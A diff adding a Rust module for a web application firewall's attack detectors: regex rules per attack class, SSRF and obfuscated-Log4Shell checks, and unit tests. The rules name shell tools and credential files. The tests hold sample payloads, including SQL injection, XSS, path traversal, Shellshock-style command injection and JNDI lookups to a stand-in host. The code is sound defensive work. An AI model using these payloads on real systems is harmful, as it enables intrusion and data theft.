@@ -1,0 +1,633 @@
+//! The detectors (R-WAF-1): each class has its own rules, each rule a stable id. They read a
+//! [`Normalised`] value and say which rule fired first, if any.
+//!
+//! SQL injection and XSS use libinjection's tokenizer and fingerprints (`libinjectionrs`); the
+//! other classes are patterns over the folded value, compiled once into one `RegexSet` per
+//! kind of place (a value, a name), so that a value is scanned once for all of them.
+
+use std::sync::OnceLock;
+
+use regex::bytes::{RegexSet, RegexSetBuilder};
+
+use super::normalise::Normalised;
+
+/// An attack class, as rules, records and the evaluation tool name it.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Class {
+    /// SQL injection.
+    Sqli,
+    /// Cross-site scripting.
+    Xss,
+    /// Path traversal and local file inclusion.
+    Lfi,
+    /// Remote file inclusion and stream wrappers.
+    Rfi,
+    /// OS command injection.
+    Rce,
+    /// JNDI lookups (Log4Shell), nested and obfuscated forms included.
+    Jndi,
+    /// Server-side template injection.
+    Ssti,
+    /// PHP code injection.
+    Php,
+    /// Java code injection (expression languages, reflection, serialized objects).
+    Java,
+    /// NoSQL operator injection.
+    Nosql,
+    /// Prototype pollution keys.
+    PrototypePollution,
+    /// CR/LF injection into headers.
+    Crlf,
+    /// Server-side request forgery: URL values that point inside.
+    Ssrf,
+    /// Encodings a backend would read differently (overlong UTF-8, NUL).
+    Encoding,
+    /// XML external entities: a DTD or an entity declaration in an XML body.
+    Xxe,
+    /// HTTP framing a backend could read differently (request smuggling shapes).
+    Protocol,
+    /// Node.js code injection (serialized functions, `child_process`).
+    Nodejs,
+    /// Session fixation: setting a cookie or a session id from the request.
+    SessionFixation,
+}
+
+impl Class {
+    /// The class name in records, metrics and the evaluation tool.
+    pub const fn name(self) -> &'static str {
+        match self {
+            Class::Sqli => "sqli",
+            Class::Xss => "xss",
+            Class::Lfi => "lfi",
+            Class::Rfi => "rfi",
+            Class::Rce => "rce",
+            Class::Jndi => "jndi",
+            Class::Ssti => "ssti",
+            Class::Php => "php",
+            Class::Java => "java",
+            Class::Nosql => "nosql",
+            Class::PrototypePollution => "prototype-pollution",
+            Class::Crlf => "crlf",
+            Class::Ssrf => "ssrf",
+            Class::Encoding => "encoding",
+            Class::Xxe => "xxe",
+            Class::Protocol => "protocol",
+            Class::Nodejs => "nodejs",
+            Class::SessionFixation => "session-fixation",
+        }
+    }
+}
+
+/// Every class.
+pub const CLASSES: &[Class] = &[
+    Class::Sqli,
+    Class::Xss,
+    Class::Lfi,
+    Class::Rfi,
+    Class::Rce,
+    Class::Jndi,
+    Class::Ssti,
+    Class::Php,
+    Class::Java,
+    Class::Nosql,
+    Class::PrototypePollution,
+    Class::Crlf,
+    Class::Ssrf,
+    Class::Encoding,
+    Class::Xxe,
+    Class::Protocol,
+    Class::Nodejs,
+    Class::SessionFixation,
+];
+
+/// The ids of the rules that are not patterns in the tables below.
+const CODE_RULES: &[&str] = &[
+    "sqli-100",
+    "xss-100",
+    "xss-120",
+    "jndi-100",
+    "ssrf-100",
+    "encoding-100",
+    "encoding-110",
+    "xxe-100",
+];
+
+/// Every rule id.
+pub static RULE_IDS: std::sync::LazyLock<Vec<&'static str>> = std::sync::LazyLock::new(|| {
+    CODE_RULES
+        .iter()
+        .copied()
+        .chain(VALUE_RULES.iter().map(|r| r.id))
+        .chain(NAME_RULES.iter().map(|r| r.id))
+        .collect()
+});
+
+/// A rule that fired.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Hit {
+    /// The rule's id (`sqli-100`).
+    pub rule: &'static str,
+    /// Its class.
+    pub class: Class,
+}
+
+/// One pattern rule.
+struct Rule {
+    id: &'static str,
+    class: Class,
+    pattern: &'static str,
+}
+
+/// Pattern rules over a folded value (lower case, backslashes as slashes, entities, percent
+/// escapes and full-width forms undone).
+const VALUE_RULES: &[Rule] = &[
+    Rule {
+        id: "xss-110",
+        class: Class::Xss,
+        pattern: r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|meta|base|link|style|svg|math|form|isindex|marquee|xss)\b",
+    },
+    Rule {
+        id: "xss-111",
+        class: Class::Xss,
+        pattern: r"<[a-z][^>]*?[\s/]on[a-z]{3,}\s*=",
+    },
+    Rule {
+        id: "xss-112",
+        class: Class::Xss,
+        pattern: r"(?:java|vb|live)script\s*:|data\s*:\s*text/html|\bexpression\s*\(|\bsrcdoc\s*=",
+    },
+    Rule {
+        id: "lfi-100",
+        class: Class::Lfi,
+        pattern: r"(?:^|[/=\s])\.\.(?:/|$)",
+    },
+    Rule {
+        id: "lfi-110",
+        class: Class::Lfi,
+        pattern: r"(?:^|/)(?:etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/self/|proc/\d+/|windows/(?:system32|win\.ini)|win\.ini|boot\.ini|\.htaccess|\.htpasswd|web\.config|\.git/|\.ssh/|id_rsa|\.bash_history|\.env$)",
+    },
+    Rule {
+        id: "rfi-100",
+        class: Class::Rfi,
+        pattern: r"\b(?:php|file|zip|phar|expect|data|glob|compress\.zlib|ogg|ssh2|rar|gopher|dict|jar|netdoc)://",
+    },
+    Rule {
+        id: "rce-100",
+        class: Class::Rce,
+        // A command word after a shell separator, followed by what a shell reads next (a space,
+        // the end, another separator): `&id=123` in a URL is a parameter, `; id` a command.
+        pattern: r"(?:[;|&`\n]|\$\(|\|\||&&)\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|perl|ruby|php|ping|nslookup|dig|echo|chmod|chown|rm|touch|nmap|telnet|ifconfig|ipconfig|powershell|cmd|sleep|kill|ps|env|printenv|head|tail|find|xargs|awk|sed|base64|tftp|ftp|ssh|scp|sudo|su|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript)(?:\s|$|[;|&<>`'\x22)])",
+    },
+    Rule {
+        id: "rce-110",
+        class: Class::Rce,
+        pattern: r"\$\{ifs\}|\$ifs\b|`[^`]{2,}`|\$\([a-z/][^)]*\)",
+    },
+    Rule {
+        id: "rce-120",
+        class: Class::Rce,
+        pattern: r"/bin/(?:ba|z|k|c|da)?sh\b|\bcmd(?:\.exe)?\s*/c\b|\bpowershell(?:\.exe)?\s+-|\(\s*\)\s*\{[^}]*;\s*\}",
+    },
+    Rule {
+        id: "ssti-100",
+        class: Class::Ssti,
+        pattern: r"\{\{[^}]*(?:\d\s*[*+/-]\s*\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}",
+    },
+    Rule {
+        id: "php-100",
+        class: Class::Php,
+        pattern: r"<\?(?:php|=)|\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|base64_decode|file_get_contents|file_put_contents|fopen|readfile|phpinfo|call_user_func(?:_array)?|create_function|preg_replace|include|include_once|require|require_once|unserialize|str_rot13|gzinflate)\s*\(",
+    },
+    Rule {
+        id: "php-110",
+        class: Class::Php,
+        pattern: r#"\b[oa]:\d+:(?:"[^"]*"|\{)|\$_(?:get|post|request|cookie|server|files|env)\b"#,
+    },
+    Rule {
+        id: "java-100",
+        class: Class::Java,
+        pattern: r"java\.(?:lang|io|net|util|beans|rmi)\.|javax\.|runtime\s*\.\s*getruntime|processbuilder|classloader|\.getclass\s*\(|\.forname\s*\(|\.getmethod\s*\(|\.invoke\s*\(|\bognl\b|@java\.|xwork|struts|#_memberaccess|#context|\.newinstance\s*\(|freemarker\.template|velocity",
+    },
+    Rule {
+        id: "java-110",
+        class: Class::Java,
+        pattern: r"\bro0ab|\baced0005|%\{[^}]*[#@(][^}]*\}|\$\{[^}]*(?:\.class|getclass|runtime|\(\s*\))[^}]*\}",
+    },
+    Rule {
+        id: "xss-113",
+        class: Class::Xss,
+        pattern: r#"(?:^|[\s"'/;])on(?:error|load|click|dblclick|mouse[a-z]+|focus[a-z]*|blur|change|submit|key[a-z]+|toggle|animation[a-z]+|transition[a-z]+|pointer[a-z]+|begin|start|end|input|select|scroll|wheel|drag[a-z]*|drop|copy|cut|paste|resize|unload|beforeunload|abort|play[a-z]*|pause|show|hashchange|message|popstate|readystatechange|auxclick|contextmenu|touch[a-z]+|search|invalid|reset|error)\s*="#,
+    },
+    Rule {
+        id: "sqli-110",
+        class: Class::Sqli,
+        pattern: r"\bunion\b[\s+(/*!0-9]+(?:all|distinct)?[\s+(/*!]*select\b|\binto[\s+]+(?:out|dump)file\b|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|\bwaitfor[\s+]+delay\b|information_schema|\bload_file\s*\(|@@version|\bversion\s*\(\s*\)|;\s*(?:drop|shutdown|truncate)\s+\w|\b(?:or|and)[\s+]+(\d+)[\s+]*=[\s+]*\d+|'[\s+]*(?:or|and)[\s+]*'|\blimit[\s+]+\d+\s*,\s*\d+\s*(?:--|#|/\*)",
+    },
+    Rule {
+        id: "rce-130",
+        class: Class::Rce,
+        pattern: r"\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|iex|iwr|iwmi|start-process|new-object\s+net\.webclient|downloadstring|downloadfile|set-executionpolicy)\b[\s(]",
+    },
+    Rule {
+        id: "lfi-120",
+        class: Class::Lfi,
+        pattern: r"(?:^|[^a-z0-9._-])/(?:etc|proc|sys|root|boot|dev)/[a-z0-9_.-]|/var/(?:log|run|lib|spool|mail)/|\.\.;|(?:^|/)\.\.(?:\s|%00)",
+    },
+    Rule {
+        id: "php-120",
+        class: Class::Php,
+        pattern: r"<\?\s*php\b|[\[{]/?php[\]}]",
+    },
+    Rule {
+        id: "nodejs-100",
+        class: Class::Nodejs,
+        pattern: r#"_\$\$nd_func\$\$_|__js_function|\bfunction\s*\(\s*\)\s*\{|\bnew\s+function\s*\(|this\.constructor\.constructor|module\.exports\s*=|\brequire\s*\(\s*['"`]|child_process|process\.mainmodule|\bxyqktkrfrlvoqyqk|\beval\s*\("#,
+    },
+    Rule {
+        id: "session-100",
+        class: Class::SessionFixation,
+        pattern: r#"\.cookie\b[^=]{0,40}=|set-cookie\s*:|http-equiv\s*=\s*['"]?set-cookie"#,
+    },
+    Rule {
+        id: "nosql-100",
+        class: Class::Nosql,
+        pattern: r"\[\s*\$(?:where|ne|eq|gt|gte|lt|lte|regex|in|nin|exists|expr|function|accumulator|or|and|not|nor|elemmatch)\s*\]|\{\s*.?\$(?:where|ne|gt|gte|lt|lte|regex|nin|exists|expr|function)\b",
+    },
+    Rule {
+        id: "proto-100",
+        class: Class::PrototypePollution,
+        pattern: r"__proto__|constructor\s*(?:\.|\[\s*.?)\s*prototype",
+    },
+    Rule {
+        id: "crlf-100",
+        class: Class::Crlf,
+        pattern: r"[\r\n]\s*(?:[a-z0-9-]+\s*:|<)",
+    },
+];
+
+/// Pattern rules over a name (a query parameter's, a JSON key, a cookie's).
+const NAME_RULES: &[Rule] = &[
+    Rule {
+        id: "nosql-110",
+        class: Class::Nosql,
+        pattern: r"^\$(?:where|ne|eq|gt|gte|lt|lte|regex|in|nin|exists|expr|function|accumulator|or|and|not|nor|elemmatch)$|\[\s*\$[a-z]+\s*\]",
+    },
+    Rule {
+        id: "proto-110",
+        class: Class::PrototypePollution,
+        pattern: r"__proto__|^constructor$|constructor\s*(?:\.|\[)\s*prototype|^prototype$",
+    },
+    Rule {
+        id: "session-110",
+        class: Class::SessionFixation,
+        pattern: r"^(?:jsessionid|phpsessid|asp\.net_sessionid|aspsessionid[a-z]*|cfid|cftoken)$",
+    },
+    Rule {
+        id: "crlf-110",
+        class: Class::Crlf,
+        pattern: r"[\r\n]",
+    },
+];
+
+struct Compiled {
+    values: RegexSet,
+    names: RegexSet,
+}
+
+fn compiled() -> &'static Compiled {
+    static COMPILED: OnceLock<Compiled> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        // The patterns are constants of this file, checked by the unit tests: a failure here
+        // is a bug caught before release, and an empty set detects nothing rather than panic.
+        // ASCII semantics (`\b`, classes): the lazy DFA then runs on any input, where Unicode
+        // word boundaries would send Japanese text to the slow engine.
+        let set = |rules: &[Rule]| {
+            RegexSetBuilder::new(rules.iter().map(|r| r.pattern))
+                .unicode(false)
+                .build()
+                .unwrap_or_else(|_| RegexSet::empty())
+        };
+        Compiled {
+            values: set(VALUE_RULES),
+            names: set(NAME_RULES),
+        }
+    })
+}
+
+/// The first rule that fires on a value: the encoding signals, the pattern rules, SQL
+/// injection and XSS (libinjection), JNDI, SSRF.
+pub fn value(n: &Normalised) -> Option<Hit> {
+    value_with(n, true)
+}
+
+/// [`value`], with the SSRF check only when `urls_are_fetched` (a JSON document's URLs are
+/// mostly identifiers and references, not addresses a backend fetches).
+pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
+    if n.signals.invalid_utf8 {
+        return Some(Hit {
+            rule: "encoding-100",
+            class: Class::Encoding,
+        });
+    }
+    if let Some(hit) = first(&compiled().values, VALUE_RULES, &n.folded) {
+        return Some(hit);
+    }
+    if libinjection_sqli(&n.decoded) {
+        return Some(Hit {
+            rule: "sqli-100",
+            class: Class::Sqli,
+        });
+    }
+    if n.decoded.contains('<') && libinjectionrs::detect_xss(n.decoded.as_bytes()).is_injection() {
+        return Some(Hit {
+            rule: "xss-100",
+            class: Class::Xss,
+        });
+    }
+    if let Some(hit) = jndi(&n.folded) {
+        return Some(hit);
+    }
+    if urls_are_fetched {
+        if let Some(hit) = ssrf(&n.folded) {
+            return Some(hit);
+        }
+    }
+    if n.signals.nul {
+        return Some(Hit {
+            rule: "encoding-110",
+            class: Class::Encoding,
+        });
+    }
+    None
+}
+
+/// The first rule that fires on a name (query parameter, JSON key, cookie name).
+pub fn name(n: &Normalised) -> Option<Hit> {
+    first(&compiled().names, NAME_RULES, &n.folded)
+}
+
+fn first(set: &RegexSet, rules: &'static [Rule], text: &str) -> Option<Hit> {
+    let matched = set.matches(text.as_bytes());
+    matched.iter().next().map(|i| Hit {
+        rule: rules[i].id,
+        class: rules[i].class,
+    })
+}
+
+/// libinjection's SQLi fingerprint, on values where SQL can break out of its context: a
+/// quote, a statement or expression character, or a comment. Words alone (`1 union select`)
+/// are `sqli-110`'s; skipping the rest keeps natural-language text (a note, a display name)
+/// off libinjection's word lookup, which is most of inspection's time otherwise.
+fn libinjection_sqli(decoded: &str) -> bool {
+    let bytes = decoded.as_bytes();
+    let breaks_out = bytes
+        .iter()
+        .any(|b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'=' | b'(' | b')' | b'#'))
+        || bytes.windows(2).any(|w| w == b"--" || w == b"/*");
+    breaks_out && libinjectionrs::detect_sqli(bytes).is_injection()
+}
+
+/// JNDI lookups, after unwrapping the lookups Log4j itself expands inside them
+/// (`${lower:j}`, `${::-n}`, `${env:X:-d}`, `${date:'i'}`), nested to any depth.
+fn jndi(folded: &str) -> Option<Hit> {
+    if !folded.contains("${") {
+        return None;
+    }
+    static WRAPPED: OnceLock<Option<regex::Regex>> = OnceLock::new();
+    let wrapped = WRAPPED
+        .get_or_init(|| {
+            regex::Regex::new(
+                r"\$\{(?:date:'([^']*)'|(?:[a-z]*:)*?(?:[^${}:]*:-)?'?([^${}:']*)'?)\}",
+            )
+            .ok()
+        })
+        .as_ref()?;
+    let mut text = folded.to_owned();
+    for _ in 0..8 {
+        if text.contains("${jndi:") {
+            break;
+        }
+        let next = wrapped.replace_all(&text, "${1}${2}").into_owned();
+        if next == text {
+            break;
+        }
+        text = next;
+    }
+    (text.contains("${jndi:")
+        || text.contains("jndi:ldap")
+        || text.contains("jndi:rmi")
+        || text.contains("jndi:dns"))
+    .then_some(Hit {
+        rule: "jndi-100",
+        class: Class::Jndi,
+    })
+}
+
+/// A URL value whose host is loopback, private, link-local, unspecified or a cloud metadata
+/// name (R-WAF-1, SSRF).
+fn ssrf(folded: &str) -> Option<Hit> {
+    // Every `scheme:` or `scheme://` in the value: URLs hide inside other text.
+    let bytes = folded.as_bytes();
+    let mut from = 0;
+    while let Some(at) = folded[from..].find(':').map(|i| i + from) {
+        from = at + 1;
+        let scheme_start = folded[..at]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+.-".contains(c)))
+            .map_or(0, |i| i + 1);
+        let scheme = &folded[scheme_start..at];
+        if scheme.is_empty() || scheme.len() > 16 || !bytes[scheme_start].is_ascii_alphabetic() {
+            continue;
+        }
+        // `scheme://…` is a URL whatever the scheme; `http:host` only for schemes that fetch.
+        const FETCHING: &[&str] = &[
+            "http", "https", "ftp", "gopher", "dict", "file", "ldap", "ldaps", "tftp", "sftp",
+            "ssh", "telnet", "smb", "rsync", "ws", "wss", "jar", "netdoc", "xri", "acap",
+        ];
+        let after = &folded[at + 1..];
+        if !after.starts_with("//") && !FETCHING.contains(&scheme) {
+            continue;
+        }
+        let rest = after.trim_start_matches('/');
+        if internal_host(rest) {
+            return Some(Hit {
+                rule: "ssrf-100",
+                class: Class::Ssrf,
+            });
+        }
+    }
+    None
+}
+
+/// Whether the authority at the start of `rest` names an internal host.
+fn internal_host(rest: &str) -> bool {
+    let authority = rest.split(['/', '?']).next().unwrap_or_default();
+    // `http://a.com &@b.com# @127.0.0.1/`: the last `@` decides for most URL parsers.
+    let host_port = authority.rsplit('@').next().unwrap_or_default().trim();
+    let host = if let Some(v6) = host_port.strip_prefix('[') {
+        v6.split(']').next().unwrap_or_default()
+    } else {
+        host_port.split([':', '#', ' ']).next().unwrap_or_default()
+    };
+    if host.is_empty() {
+        return false;
+    }
+    match host.parse::<std::net::IpAddr>() {
+        Ok(ip) => is_internal(ip),
+        Err(_) => {
+            const METADATA: &[&str] = &[
+                "localhost",
+                "metadata",
+                "metadata.google.internal",
+                "metadata.packet.net",
+                "metadata.azure.com",
+                "instance-data",
+                "instance-data.ec2.internal",
+            ];
+            METADATA.contains(&host)
+                || host.ends_with(".localhost")
+                || host.ends_with(".internal")
+                // 0x7f.1, 2130706433, 017700000001: numeric forms a resolver accepts.
+                || host
+                    .split('.')
+                    .all(|p| !p.is_empty() && (p.starts_with("0x") || p.bytes().all(|b| b.is_ascii_digit())))
+                    && !host.contains("..")
+                    && host.bytes().any(|b| b != b'.')
+                    && numeric_host_is_internal(host)
+        }
+    }
+}
+
+/// A host in the numeric forms `inet_aton` accepts (`2130706433`, `0x7f.1`, `0177.0.0.1`).
+fn numeric_host_is_internal(host: &str) -> bool {
+    let parts: Vec<u64> = host
+        .split('.')
+        .filter_map(|p| {
+            if let Some(hex) = p.strip_prefix("0x") {
+                u64::from_str_radix(hex, 16).ok()
+            } else if p.len() > 1 && p.starts_with('0') {
+                u64::from_str_radix(p, 8).ok()
+            } else {
+                p.parse().ok()
+            }
+        })
+        .collect();
+    let value = match parts.as_slice() {
+        [a] => *a,
+        [a, b] => (a << 24) | b,
+        [a, b, c] => (a << 24) | (b << 16) | c,
+        [a, b, c, d] => (a << 24) | (b << 16) | (c << 8) | d,
+        _ => return false,
+    };
+    u32::try_from(value).is_ok_and(|v| is_internal(std::net::Ipv4Addr::from(v).into()))
+}
+
+fn is_internal(ip: std::net::IpAddr) -> bool {
+    match ip {
+        std::net::IpAddr::V4(v4) => {
+            v4.is_loopback()
+                || v4.is_private()
+                || v4.is_link_local()
+                || v4.is_unspecified()
+                || v4.is_broadcast()
+                || v4.octets()[0] == 100 && (64..128).contains(&v4.octets()[1])
+                // Oracle Cloud's and Alibaba's metadata services.
+                || v4.octets() == [192, 0, 0, 192]
+                || v4.octets() == [100, 100, 100, 200]
+        }
+        std::net::IpAddr::V6(v6) => {
+            v6.is_loopback()
+                || v6.is_unspecified()
+                || (v6.segments()[0] & 0xfe00) == 0xfc00
+                || (v6.segments()[0] & 0xffc0) == 0xfe80
+                || v6.to_ipv4_mapped().is_some_and(|v4| is_internal(v4.into()))
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::normalise::{normalise, Plus};
+
+    fn hit(raw: &str) -> Option<&'static str> {
+        value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.class.name())
+    }
+
+    #[test]
+    fn every_pattern_compiles() {
+        for rule in VALUE_RULES.iter().chain(NAME_RULES) {
+            let built = regex::bytes::RegexBuilder::new(rule.pattern)
+                .unicode(false)
+                .build();
+            assert!(built.is_ok(), "{}: {built:?}", rule.id);
+        }
+    }
+
+    #[test]
+    fn attacks_are_found_in_every_class() {
+        let cases: &[(&str, &str)] = &[
+            ("1' OR '1'='1", "sqli"),
+            ("1 UNION SELECT password FROM users--", "sqli"),
+            ("%27%20or%201%3D1--", "sqli"),
+            ("<script>alert(1)</script>", "xss"),
+            ("%253Cscript%253Ealert(1)", "xss"),
+            ("＜ｓｃｒｉｐｔ＞alert(1)", "xss"),
+            ("<img src=x onerror=alert(1)>", "xss"),
+            ("javascript:alert(document.cookie)", "xss"),
+            ("../../../../etc/passwd", "lfi"),
+            ("..%5c..%5cwindows%5cwin.ini", "lfi"),
+            ("php://filter/convert.base64-encode/resource=index", "rfi"),
+            ("; cat notes.txt", "rce"),
+            ("| whoami", "rce"),
+            ("$(id)", "rce"),
+            ("() { :; }; /bin/bash -c id", "rce"),
+            ("${jndi:ldap://evil.example/a}", "jndi"),
+            ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
+            ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
+            ("{{7*7}}", "ssti"),
+            ("{{ config.items() }}", "ssti"),
+            ("<?php system('id'); ?>", "php"),
+            ("java.lang.Runtime.getRuntime()", "java"),
+            (
+                "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+                "java",
+            ),
+            ("{\"$where\": \"this.a == 1\"}", "nosql"),
+            ("__proto__[admin]=1", "prototype-pollution"),
+            ("x%0d%0aLocation:%20http://e.example/", "crlf"),
+            ("http://169.254.169.254/latest/meta-data/", "ssrf"),
+            ("http://127.0.0.1:8080/admin", "ssrf"),
+            ("http://[::1]/", "ssrf"),
+            ("http://2130706433/", "ssrf"),
+            ("%C0%AE%C0%AE%C0%AF", "encoding"),
+        ];
+        for (raw, class) in cases {
+            assert_eq!(hit(raw), Some(*class), "{raw}");
+        }
+    }
+
+    #[test]
+    fn ordinary_values_pass() {
+        for raw in [
+            "p-001",
+            "Patient/p-001",
+            "2026-04-10",
+            "収縮期血圧 118 mm[Hg]",
+            "ＨｂＡ１ｃ 5.6%",
+            "O'Brien",
+            "Tom & Jerry",
+            "https://example.org/fhir/Patient/1",
+            "http://loinc.org",
+            "1 tablet twice a day; after meals",
+            "select a plan",
+            "urn:oid:1.2.392.100495.20.3.51.1",
+            "a/b/c.json",
+            "Bearer abc.def.ghi",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            "{\"resourceType\": \"Observation\"}",
+        ] {
+            assert_eq!(hit(raw), None, "{raw}");
+        }
+    }
+}
